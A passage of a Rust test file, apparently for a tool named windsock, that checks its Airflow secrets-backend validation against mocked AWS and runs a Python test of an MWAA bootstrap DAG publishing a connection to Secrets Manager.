            "sql_alchemy_conn",
        ),
    ];
    let (code, out) = windsock_with_aws(&moto, &["check"], &backend);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("target default"), "{out}");
    let mut other = backend;
    other[0].1 = "airflow.secrets.local_filesystem.LocalFilesystemBackend";
    let (code, out) = windsock_with_aws(&moto, &["check"], &other);
    assert_eq!(code, 64, "{out}");
    assert!(out.contains("SecretsManagerBackend"), "{out}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// The MWAA bootstrap DAG's code (deploy/mwaa/) parses Airflow's
/// connection and publishes it to Secrets Manager (moto), then updates it.
#[test]
fn mwaa_bootstrap_dag_publishes_the_connection() {
    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("deploy/mwaa/test_publish.py");
    let out = Command::new("python3").arg(&script).output().unwrap();
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}
